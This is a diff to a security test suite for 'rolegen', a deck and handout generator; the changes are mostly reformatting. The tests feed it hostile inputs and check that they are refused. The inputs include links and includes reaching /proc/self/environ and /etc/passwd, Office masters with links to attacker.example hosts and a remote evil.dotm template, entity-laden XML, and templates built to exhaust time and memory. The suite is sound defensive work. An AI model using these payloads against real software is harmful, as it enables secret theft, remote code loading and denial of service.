@@ -20,16 +20,29 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 sys.path.insert(0, str(Path(__file__).parent))
-from packages import (MASTER, OUTSIDE, R, booby_trapped_master, png_header, read_parts, relate,  # noqa: E402
-                      write_parts)
+from packages import (
+    MASTER,
+    OUTSIDE,
+    R,
+    booby_trapped_master,
+    png_header,
+    read_parts,
+    relate,  # noqa: E402
+    write_parts,
+)
 
 ROLEGEN = Path(sys.executable).parent / "rolegen"
 
 
 def rolegen(*args: str, env: dict | None = None, timeout: float = 300) -> subprocess.CompletedProcess:
     """Run the installed rolegen in the current folder (the project)."""
-    return subprocess.run([str(ROLEGEN), *args], capture_output=True, text=True, timeout=timeout,
-                          env={**os.environ, "MY_CI_SECRET": "s3cr3t-token", **(env or {})})
+    return subprocess.run(
+        [str(ROLEGEN), *args],
+        capture_output=True,
+        text=True,
+        timeout=timeout,
+        env={**os.environ, "MY_CI_SECRET": "s3cr3t-token", **(env or {})},
+    )
 
 
 def one_error(result: subprocess.CompletedProcess) -> str:
@@ -41,24 +54,31 @@ def one_error(result: subprocess.CompletedProcess) -> str:
 
 def external_targets(package: Path) -> list[str]:
     with zipfile.ZipFile(package) as archive:
-        return [t for name in archive.namelist() if name.endswith(".rels")
-                for t in re.findall(r'Target="([^"]*)"[^>]*TargetMode="External"', archive.read(name).decode())]
+        return [
+            t
+            for name in archive.namelist()
+            if name.endswith(".rels")
+            for t in re.findall(r'Target="([^"]*)"[^>]*TargetMode="External"', archive.read(name).decode())
+        ]
 
 
 # -- 1. secrets: links out of the project are never followed --------------------------------------
 
+
 def test_an_included_link_to_the_environment_is_refused(project):
     (project / "templates/env.txt").symlink_to("/proc/self/environ")
     deck = project / "templates/deck.md.j2"
-    deck.write_text('{% include "env.txt" %}\n' + (DEFAULTS_DIR / "deck.md.j2").read_text(encoding="utf-8"), encoding="utf-8")
+    deck.write_text(
+        '{% include "env.txt" %}\n' + (DEFAULTS_DIR / "deck.md.j2").read_text(encoding="utf-8"), encoding="utf-8"
+    )
     for args in (("deck", "--brand", "acme"), ("build", "-j1")):
-        assert one_error(rolegen(*args)) == ("Error: templates/env.txt: file is a link that leads outside "
-                                             "'project'; put a copy inside instead")
+        assert one_error(rolegen(*args)) == (
+            "Error: templates/env.txt: file is a link that leads outside 'project'; put a copy inside instead"
+        )
     assert not (project / "output").exists()
 
 
-@pytest.mark.parametrize("name", ["templates/deck.md.j2", "templates/brands/acme/deck.md.j2",
-                                  "templates/i18n/en.yaml"])
+@pytest.mark.parametrize("name", ["templates/deck.md.j2", "templates/brands/acme/deck.md.j2", "templates/i18n/en.yaml"])
 def test_a_template_or_translation_that_is_itself_a_link_out_is_refused(project, name):
     path = project / name
     path.parent.mkdir(parents=True, exist_ok=True)
@@ -72,18 +92,23 @@ def test_a_template_or_translation_that_is_itself_a_link_out_is_refused(project,
 def test_a_fifo_template_fails_at_once_instead_of_hanging(project):
     path = project / "templates/deck.md.j2"
     os.mkfifo(path)
-    assert one_error(rolegen("deck", "--brand", "acme", timeout=60)) == \
-        "Error: templates/deck.md.j2: file is not a regular file (a folder, FIFO or device?)"
+    assert (
+        one_error(rolegen("deck", "--brand", "acme", timeout=60))
+        == "Error: templates/deck.md.j2: file is not a regular file (a folder, FIFO or device?)"
+    )
 
 
 # -- 2, 8. masters and references are cleaned ----------------------------------------------------
+
 
 def test_a_booby_trapped_master_gives_a_clean_deck_with_warnings(project):
     booby_trapped_master(project / "templates/brands/acme/deck.pptx")
     result = rolegen("deck", "--brand", "acme")
     assert result.returncode == 0, result.stderr
-    assert ("warning: master 'deck.pptx': dropped 3 link(s) to outside files (http://attacker.example/track.png, "
-            "file:///etc/passwd, \\\\attacker.example\\share\\x.png)") in result.stderr
+    assert (
+        "warning: master 'deck.pptx': dropped 3 link(s) to outside files (http://attacker.example/track.png, "
+        "file:///etc/passwd, \\\\attacker.example\\share\\x.png)"
+    ) in result.stderr
     deck = project / "output/acme/ceo-vs-coo.pptx"
     assert external_targets(deck) == []
     with zipfile.ZipFile(deck) as archive:
@@ -107,7 +132,8 @@ def test_a_booby_trapped_master_gives_a_clean_deck_with_warnings(project):
 def test_strict_refuses_a_master_with_outside_links(project):
     booby_trapped_master(project / "templates/brands/acme/deck.pptx")
     assert one_error(rolegen("deck", "--brand", "acme", "--strict")).startswith(
-        "Error: templates/brands/acme/deck.pptx: master 'deck.pptx' links to 3 outside file(s)")
+        "Error: templates/brands/acme/deck.pptx: master 'deck.pptx' links to 3 outside file(s)"
+    )
 
 
 def _reference(project: Path) -> tuple[Path, dict[str, bytes]]:
@@ -123,9 +149,16 @@ def _reference(project: Path) -> tuple[Path, dict[str, bytes]]:
 def test_a_remote_template_and_custom_xml_are_stripped_from_references(project):
     path, parts = _reference(project)
     parts["word/settings.xml"] = parts["word/settings.xml"].replace(
-        b"<w:zoom", b'<w:attachedTemplate r:id="rIdT"/><w:zoom', 1)
-    relate(parts, "word/_rels/document.xml.rels", "rIdT", f"{R}/attachedTemplate",
-           "http://attacker.example/evil.dotm", external=True)
+        b"<w:zoom", b'<w:attachedTemplate r:id="rIdT"/><w:zoom', 1
+    )
+    relate(
+        parts,
+        "word/_rels/document.xml.rels",
+        "rIdT",
+        f"{R}/attachedTemplate",
+        "http://attacker.example/evil.dotm",
+        external=True,
+    )
     write_parts(path, parts)
     result = rolegen("handout", "--brand", "acme")
     assert result.returncode == 0, result.stderr
@@ -162,27 +195,38 @@ def _huge_background(pixels):
     def change(parts):
         parts["ppt/media/image9.png"] = png_header(*pixels)
         relate(parts, "ppt/slideMasters/_rels/slideMaster1.xml.rels", "rIdBg", f"{R}/image", "../media/image9.png")
+
     return change
 
 
 DAMAGED = {
-    "doctype-in-master": (lambda p: p.update({_MASTER_PART: _doctype(p)}),
-                          "part 'ppt/slideMasters/slideMaster1.xml' holds a DOCTYPE (a DTD or entities), which Office "
-                          "files never hold; refusing it"),
-    "entities-in-theme": (lambda p: p.update({_THEME: b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x "y">]><t>&x;</t>'}),
-                          "part 'ppt/theme/theme1.xml' holds a DOCTYPE (a DTD or entities), which Office files never "
-                          "hold; refusing it"),
-    "malformed-theme": (lambda p: p.update({_THEME: b"<a:theme xmlns:a='x'><open></a:theme>"}),
-                        "part 'ppt/theme/theme1.xml' is not well-formed XML"),
+    "doctype-in-master": (
+        lambda p: p.update({_MASTER_PART: _doctype(p)}),
+        "part 'ppt/slideMasters/slideMaster1.xml' holds a DOCTYPE (a DTD or entities), which Office "
+        "files never hold; refusing it",
+    ),
+    "entities-in-theme": (
+        lambda p: p.update({_THEME: b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x "y">]><t>&x;</t>'}),
+        "part 'ppt/theme/theme1.xml' holds a DOCTYPE (a DTD or entities), which Office files never hold; refusing it",
+    ),
+    "malformed-theme": (
+        lambda p: p.update({_THEME: b"<a:theme xmlns:a='x'><open></a:theme>"}),
+        "part 'ppt/theme/theme1.xml' is not well-formed XML",
+    ),
     "master-without-theme": (_no_theme, "part 'ppt/slideMasters/slideMaster1.xml' has no theme"),
-    "layout-missing": (lambda p: p.pop("ppt/slideLayouts/slideLayout2.xml"),
-                       "part 'ppt/slideMasters/slideMaster1.xml' names part 'ppt/slideLayouts/slideLayout2.xml' "
-                       "(rId2), which is missing"),
-    "400-megapixel-background": (_huge_background((20000, 20000)),
-                                 "image 'ppt/media/image9.png' is over the 40 megapixel limit; scale it down"),
-    "169-megapixel-background": (_huge_background((13000, 13000)),
-                                 "image 'ppt/media/image9.png' is 13,000 x 13,000 pixels, over the 40 megapixel "
-                                 "limit; scale it down"),
+    "layout-missing": (
+        lambda p: p.pop("ppt/slideLayouts/slideLayout2.xml"),
+        "part 'ppt/slideMasters/slideMaster1.xml' names part 'ppt/slideLayouts/slideLayout2.xml' "
+        "(rId2), which is missing",
+    ),
+    "400-megapixel-background": (
+        _huge_background((20000, 20000)),
+        "image 'ppt/media/image9.png' is over the 40 megapixel limit; scale it down",
+    ),
+    "169-megapixel-background": (
+        _huge_background((13000, 13000)),
+        "image 'ppt/media/image9.png' is 13,000 x 13,000 pixels, over the 40 megapixel limit; scale it down",
+    ),
 }
 
 
@@ -205,18 +249,25 @@ def test_a_reference_without_section_properties_fails_naming_the_part(project):
     write_parts(path, parts)
     assert one_error(rolegen("handout", "--brand", "acme")) == (
         "Error: templates/brands/acme/handout.docx: reference 'handout.docx': part 'word/document.xml' has no "
-        "section properties (w:sectPr); save it again from Word")
+        "section properties (w:sectPr); save it again from Word"
+    )
 
 
 # -- 3. templates run under limits ----------------------------------------------------------------
 
 HANGS = {
-    "nested-range": ("{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
-                     "template ran longer than 2 s"),
-    "megabyte-strings": ("{% for i in range(100000) %}{{ 'y' * 100000 }}{% endfor %}",
-                         "template writes over 5,000,000 characters; refusing it"),
-    "doubling": ("{% set ns = namespace(s='x') %}{% for i in range(60) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}",
-                 "template tried something unsafe: '~' would make 8,388,608 characters"),
+    "nested-range": (
+        "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
+        "template ran longer than 2 s",
+    ),
+    "megabyte-strings": (
+        "{% for i in range(100000) %}{{ 'y' * 100000 }}{% endfor %}",
+        "template writes over 5,000,000 characters; refusing it",
+    ),
+    "doubling": (
+        "{% set ns = namespace(s='x') %}{% for i in range(60) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}",
+        "template tried something unsafe: '~' would make 8,388,608 characters",
+    ),
     "lipsum": ("{{ lipsum(10**6) }}", "template tried something unsafe: 'lipsum' was given 1,000,000"),
     "center": ('{{ "x"|center(2*10**9) }}', "template tried something unsafe: 'center' was given 2,000,000,000"),
     "percent-width": ('{{ "%*d" % (2*10**9, 1) }}', "template tried something unsafe: a format width over 10,000"),
@@ -236,13 +287,15 @@ def test_a_template_that_would_hang_fails_naming_template_and_line(project, name
 
 # -- 6, 8, 9. outputs, manifest, check, workers, temp files, Ctrl-C --------------------------------
 
+
 def test_a_linked_output_folder_is_not_written_through(project, tmp_path):
     elsewhere = tmp_path / "elsewhere"
     elsewhere.mkdir()
     (elsewhere / "manifest.json").write_text("keep", encoding="utf-8")
     (project / "output").symlink_to(elsewhere)
-    assert one_error(rolegen("build", "-j1")) == ("Error: output: 'output' is a link (or not a folder); rolegen "
-                                                  "writes only into the project's real output folder")
+    assert one_error(rolegen("build", "-j1")) == (
+        "Error: output: 'output' is a link (or not a folder); rolegen writes only into the project's real output folder"
+    )
     assert (elsewhere / "manifest.json").read_text(encoding="utf-8") == "keep"
     (project / "output").unlink()
     (project / "output").mkdir()
@@ -299,10 +352,18 @@ def _children(pid: int) -> set[int]:
 def _slow_build(project: Path, *extra: str) -> subprocess.Popen:
     # A template that takes a few seconds per document, so the workers are busy when the signal comes.
     deck = project / "templates/deck.md.j2"
-    deck.write_text("{% for i in range(100000) %}{% for j in range(30) %}{% endfor %}{% endfor %}"
-                    + (DEFAULTS_DIR / "deck.md.j2").read_text(encoding="utf-8"), encoding="utf-8")
-    return subprocess.Popen([str(ROLEGEN), "build", "--jobs", "2", "--force", *extra], stdout=subprocess.PIPE,
-                            stderr=subprocess.PIPE, text=True, env={**os.environ, "ROLEGEN_TEMPLATE_SECONDS": "120"})
+    deck.write_text(
+        "{% for i in range(100000) %}{% for j in range(30) %}{% endfor %}{% endfor %}"
+        + (DEFAULTS_DIR / "deck.md.j2").read_text(encoding="utf-8"),
+        encoding="utf-8",
+    )
+    return subprocess.Popen(
+        [str(ROLEGEN), "build", "--jobs", "2", "--force", *extra],
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+        env={**os.environ, "ROLEGEN_TEMPLATE_SECONDS": "120"},
+    )
 
 
 def _wait_for_workers(process: subprocess.Popen) -> set[int]:
@@ -317,8 +378,11 @@ def _wait_for_workers(process: subprocess.Popen) -> set[int]:
 def _gone(pids: set[int], seconds: float = 20) -> bool:
     deadline = time.monotonic() + seconds
     while time.monotonic() < deadline:
-        alive = {pid for pid in pids if Path(f"/proc/{pid}").exists()
-                 and "zombie" not in Path(f"/proc/{pid}/status").read_text().lower()}
+        alive = {
+            pid
+            for pid in pids
+            if Path(f"/proc/{pid}").exists() and "zombie" not in Path(f"/proc/{pid}/status").read_text().lower()
+        }
         if not alive:
             return True
         time.sleep(0.2)
@@ -349,10 +413,13 @@ def test_ctrl_c_during_a_parallel_build_exits_130_and_leaves_no_temp_files(proje
 
 # -- 7, 9. validate passes only what renders -------------------------------------------------------
 
+
 def test_an_escaped_control_character_fails_validate_and_handout_alike(project):
     role = project / "content/roles/ceo.md"
-    role.write_text(re.sub(r"(?m)^title: .*$", lambda _: 'title: "Chief\\x0bExecutive"', role.read_text(encoding="utf-8")),
-                    encoding="utf-8")
+    role.write_text(
+        re.sub(r"(?m)^title: .*$", lambda _: 'title: "Chief\\x0bExecutive"', role.read_text(encoding="utf-8")),
+        encoding="utf-8",
+    )
     for args in (("validate",), ("handout", "--brand", "acme")):
         result = rolegen(*args)
         assert result.returncode == 1 and "internal error" not in result.stderr
@@ -368,8 +435,7 @@ def test_a_fifo_role_fails_validate_at_once(project):
 def test_sixty_thousand_keys_are_one_problem(project):
     role = project / "content/roles/ceo.md"
     text = role.read_text(encoding="utf-8")
-    role.write_text(text.replace("---\n", "---\n" + "".join(f"k{i}: 1\n" for i in range(60_000)), 1),
-                    encoding="utf-8")
+    role.write_text(text.replace("---\n", "---\n" + "".join(f"k{i}: 1\n" for i in range(60_000)), 1), encoding="utf-8")
     result = rolegen("validate")
     assert "content/roles/ceo.md:2: 60,000 unknown keys in front matter (the first is 'k0'" in result.stderr
 
@@ -379,14 +445,17 @@ def test_a_list_nested_too_deeply_is_refused_not_shrunk(project):
     nested = "".join("  " * i + f"- item {i}\n" for i in range(19))
     role.write_text(role.read_text(encoding="utf-8") + "\n" + nested + "\nAfter the list.\n", encoding="utf-8")
     result = rolegen("validate")
-    assert "Markdown is nested too deeply (lists or quotes more than 8 levels inside each other); flatten it" \
+    assert (
+        "Markdown is nested too deeply (lists or quotes more than 8 levels inside each other); flatten it"
         in result.stderr
+    )
 
 
 def test_an_impossible_date_fails_build_with_a_message(project):
     comparison = project / "content/comparisons/ceo-vs-coo.yaml"
-    comparison.write_text(re.sub(r"(?m)^updated: .*$", "updated: 2026-13-45", comparison.read_text(encoding="utf-8")),
-                          encoding="utf-8")
+    comparison.write_text(
+        re.sub(r"(?m)^updated: .*$", "updated: 2026-13-45", comparison.read_text(encoding="utf-8")), encoding="utf-8"
+    )
     assert "invalid YAML value '2026-13-45': month must be in 1..12" in one_error(rolegen("build", "-j1"))
 
 
@@ -395,16 +464,23 @@ def test_a_folder_or_fifo_named_like_a_content_file_is_named(project, kind):
     path = project / "templates/brands/acme/_brand.yml"
     path.unlink()
     path.mkdir() if kind == "folder" else os.mkfifo(path)
-    assert one_error(rolegen("deck", "--brand", "acme", timeout=60)) == \
-        "Error: templates/brands/acme/_brand.yml: file is not a regular file (a folder, FIFO or device?)"
+    assert (
+        one_error(rolegen("deck", "--brand", "acme", timeout=60))
+        == "Error: templates/brands/acme/_brand.yml: file is not a regular file (a folder, FIFO or device?)"
+    )
 
 
 # -- fuzz: mutated masters never give a traceback, hang or outside link ----------------------------
 
 _PARTS = sorted(read_parts(MASTER))
-_MUTATIONS = st.lists(st.tuples(
-    st.sampled_from(["drop", "truncate", "doctype", "external", "garbage", "bad-type", "dangling"]),
-    st.sampled_from(_PARTS)), min_size=1, max_size=3)
+_MUTATIONS = st.lists(
+    st.tuples(
+        st.sampled_from(["drop", "truncate", "doctype", "external", "garbage", "bad-type", "dangling"]),
+        st.sampled_from(_PARTS),
+    ),
+    min_size=1,
+    max_size=3,
+)
 
 
 def _mutate(parts: dict[str, bytes], mutations) -> None:
@@ -423,13 +499,18 @@ def _mutate(parts: dict[str, bytes], mutations) -> None:
             parts[name] = b"\x00\xff" * 20
         elif action == "bad-type":
             parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
-                b"presentationml.presentation.main+xml", b"presentationml.template.macroEnabled.main+xml")
+                b"presentationml.presentation.main+xml", b"presentationml.template.macroEnabled.main+xml"
+            )
         elif action == "dangling" and name.endswith(".rels"):
             relate(parts, name, "rIdGone", f"{R}/slideLayout", "../slideLayouts/nowhere.xml")
 
 
-@settings(max_examples=25, deadline=None, derandomize=True,
-          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
+@settings(
+    max_examples=25,
+    deadline=None,
+    derandomize=True,
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
+)
 @given(_MUTATIONS)
 def test_a_mutated_master_renders_cleanly_or_fails_with_one_line(project, mutations):
     from rolegen.cli import main
@@ -459,6 +540,7 @@ def test_a_mutated_master_renders_cleanly_or_fails_with_one_line(project, mutati
 
 # -- what held in the attack round stays held -------------------------------------------------------
 
+
 @pytest.mark.parametrize("name", ["../../../etc/passwd", "/etc/passwd"])
 def test_an_include_leaving_the_templates_is_refused(project, name):
     (project / "templates/deck.md.j2").write_text(f'{{% include "{name}" %}}\n', encoding="utf-8")
@@ -483,11 +565,16 @@ def _no_temps(folder: Path) -> list[str]:
     return [p.name for p in folder.rglob("*.tmp")]
 
 
-@pytest.mark.parametrize("error", [OSError(28, "No space left on device"),
-                                   PermissionError(13, "Permission denied"),
-                                   OSError(30, "Read-only file system")], ids=["ENOSPC", "EACCES", "EROFS"])
-def test_a_full_or_read_only_disk_fails_with_one_line_and_keeps_the_old_output(project, capsys, monkeypatch,
-                                                                                 error):
+@pytest.mark.parametrize(
+    "error",
+    [
+        OSError(28, "No space left on device"),
+        PermissionError(13, "Permission denied"),
+        OSError(30, "Read-only file system"),
+    ],
+    ids=["ENOSPC", "EACCES", "EROFS"],
+)
+def test_a_full_or_read_only_disk_fails_with_one_line_and_keeps_the_old_output(project, capsys, monkeypatch, error):
     import tempfile
 
     code, _, target = _deck_in_process(project, capsys)
@@ -499,7 +586,8 @@ def test_a_full_or_read_only_disk_fails_with_one_line_and_keeps_the_old_output(p
     else:
         monkeypatch.setattr(tempfile, "mkstemp", lambda *a, **k: (_ for _ in ()).throw(error))
     (project / "content/roles/ceo.md").write_text(
-        (project / "content/roles/ceo.md").read_text(encoding="utf-8") + "\nA changed line.\n", encoding="utf-8")
+        (project / "content/roles/ceo.md").read_text(encoding="utf-8") + "\nA changed line.\n", encoding="utf-8"
+    )
     code, lines, _ = _deck_in_process(project, capsys)
     assert code == 1 and len(lines) == 1 and lines[0].startswith("Error: output/acme/deck.pptx"), lines
     assert error.strerror in lines[0]
@@ -514,14 +602,27 @@ def _texts(folder: Path) -> dict[str, str]:
 
     texts = {}
     for path in folder.rglob("*.pptx"):
-        texts[path.name] = "\n".join(run.text for slide in Presentation(str(path)).slides for shape in slide.shapes
-                                     if shape.has_text_frame for p in shape.text_frame.paragraphs for run in p.runs)
-        texts[path.name] += "\n".join(cell.text for slide in Presentation(str(path)).slides for shape in slide.shapes
-                                      if shape.has_table for row in shape.table.rows for cell in row.cells)
+        texts[path.name] = "\n".join(
+            run.text
+            for slide in Presentation(str(path)).slides
+            for shape in slide.shapes
+            if shape.has_text_frame
+            for p in shape.text_frame.paragraphs
+            for run in p.runs
+        )
+        texts[path.name] += "\n".join(
+            cell.text
+            for slide in Presentation(str(path)).slides
+            for shape in slide.shapes
+            if shape.has_table
+            for row in shape.table.rows
+            for cell in row.cells
+        )
     for path in folder.rglob("*.docx"):
         document = Document(str(path))
-        texts[path.name] = "\n".join([p.text for p in document.paragraphs]
-                                     + [c.text for t in document.tables for r in t.rows for c in r.cells])
+        texts[path.name] = "\n".join(
+            [p.text for p in document.paragraphs] + [c.text for t in document.tables for r in t.rows for c in r.cells]
+        )
     return texts
 
 
@@ -531,12 +632,14 @@ def test_two_thousand_bullets_and_five_hundred_dimensions_reach_every_output(pro
     role = project / "content/roles/ceo.md"
     head, body = role.read_text(encoding="utf-8").split("focus:", 1)
     bullets = "".join(f"  - Bullet{n:04d} keeps its words.\n" for n in range(2000))
-    role.write_text(head.replace("responsibilities:\n", "responsibilities:\n" + bullets, 1) + "focus:" + body,
-                    encoding="utf-8")
+    role.write_text(
+        head.replace("responsibilities:\n", "responsibilities:\n" + bullets, 1) + "focus:" + body, encoding="utf-8"
+    )
     comparison = project / "content/comparisons/ceo-vs-coo.yaml"
     data = yaml.safe_load(comparison.read_text(encoding="utf-8"))
-    data["dimensions"] = [{"name": f"Dim{n:03d}", "ceo": f"Ceo{n:03d} text.", "coo": f"Coo{n:03d} text."}
-                          for n in range(500)]
+    data["dimensions"] = [
+        {"name": f"Dim{n:03d}", "ceo": f"Ceo{n:03d} text.", "coo": f"Coo{n:03d} text."} for n in range(500)
+    ]
     comparison.write_text(yaml.safe_dump(data, sort_keys=False), encoding="utf-8")
     result = rolegen("build", "--jobs", "1", timeout=1200)
     assert result.returncode == 0, result.stderr
@@ -561,7 +664,8 @@ def test_a_plain_reference_gives_a_handout_without_warnings(project):
 def test_custom_xml_holding_data_is_removed_with_a_warning(project):
     path, parts = _reference(project)
     parts["customXml/item1.xml"] = parts["customXml/item1.xml"].replace(
-        b'StyleName="APA"/>', b'StyleName="APA"><b:Source><b:Tag>secret</b:Tag></b:Source></b:Sources>')
+        b'StyleName="APA"/>', b'StyleName="APA"><b:Source><b:Tag>secret</b:Tag></b:Source></b:Sources>'
+    )
     write_parts(path, parts)
     result = rolegen("handout", "--brand", "acme")
     assert result.returncode == 0, result.stderr
